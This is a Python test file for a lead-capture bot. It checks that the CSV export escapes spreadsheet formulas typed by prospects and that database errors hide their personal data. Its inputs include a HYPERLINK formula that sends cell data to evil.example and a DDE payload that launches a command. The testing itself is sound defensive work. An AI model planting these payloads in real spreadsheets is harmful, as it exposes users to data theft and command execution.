"""What leaves the bot for a spreadsheet or a log: no formula from a prospect, no bound value in a database error."""

from __future__ import annotations

import csv
import io

from sqlalchemy.exc import IntegrityError

from bot.export import to_csv
from db.leads import create_lead
from db.models import Lead
from db.session import make_engine, make_sessionmaker

HOSTILE = '=HYPERLINK("https://evil.example/?d="&B2,"Click")'


def _lead(**fields: object) -> Lead:
    from datetime import UTC, datetime

    now = datetime(2026, 11, 29, tzinfo=UTC)
    values: dict[str, object] = {"id": 1, "created_at": now, "updated_at": now, "status": "new", "name": None,
                                 "telegram_user_id": 1, "telegram_username": None, "chat_id": 1, "intended_use": None,
                                 "intended_use_text": None, "people": None, "availability": [], "availability_text": None,
                                 "email": None, "phone": None, "source": None, "notes": None, "language_code": None}  # fmt: skip
    return Lead(**(values | fields))


def test_csv_export_writes_a_formula_typed_by_a_prospect_as_text() -> None:
    lead = _lead(name=HOSTILE, notes="+1+cmd|' /C calc'!A0", availability_text="@SUM(1)", source="-2+3", email="a@b.c")
    [row] = list(csv.DictReader(io.StringIO(to_csv([lead]))))
    assert row["name"] == "'" + HOSTILE and row["notes"].startswith("'+") and row["their_words"] == "'@SUM(1)"
    assert row["source"] == "'-2+3" and row["email"] == "a@b.c"  # ordinary values untouched


async def test_a_database_error_does_not_show_the_prospects_data(sqlite_url: str) -> None:
    engine = make_engine(sqlite_url)
    try:
        async with make_sessionmaker(engine).begin() as session:
            await create_lead(session, id=7, chat_id=1, name="Dana Secretname", availability=[], email="dana@example.com")
        async with make_sessionmaker(engine).begin() as session:
            await create_lead(session, id=7, chat_id=1, name="Dana Secretname", availability=[], email="dana@example.com")
    except IntegrityError as exc:
        shown = str(exc)
    finally:
        await engine.dispose()
    assert "UNIQUE" in shown and "Secretname" not in shown and "dana@example.com" not in shown
